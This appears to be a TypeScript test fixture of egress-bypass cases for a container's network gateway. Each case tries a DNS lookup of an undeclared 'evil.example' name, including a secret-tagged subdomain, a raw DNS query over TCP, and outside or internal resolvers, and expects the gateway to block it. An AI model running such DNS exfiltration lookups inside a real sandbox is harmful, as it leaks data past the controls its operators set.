import type { BypassCase } from '../bypass-case.ts'

const undeclared = { blocked: 'which is not declared' }

/** Lookups, which could carry data out of the container: the ways to ask. The gateway's own tests try the questions. */
export const names: readonly BypassCase[] = [
  { tried: 'an undeclared name', attack: "look_up('evil.example')", ends: undeclared },
  {
    tried: 'an undeclared name, over TCP',
    attack: `
      query = b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\7example\\0\\0\\1\\0\\1'
      link = socket.create_connection(('127.0.0.1', 53), timeout=5)
      link.sendall(struct.pack('>H', len(query)) + query)
      report = len(link.recv(512))`,
    ends: undeclared,
  },
  {
    tried: 'a name server of its own choice',
    attack: "dns('s3cr3t.evil.example', 1, '9.9.9.9')",
    ends: { reports: 'unreachable' },
    endsInBridge: { reportsOnly: ['unreachable', 'no answer'] },
  },
  {
    tried: 'an undeclared name, sent to the engine’s name server',
    attack: "dns('s3cr3t.evil.example', 1, '127.0.0.11')",
    ends: { reports: 'refused' },
    endsInBridge: undeclared,
  },
]
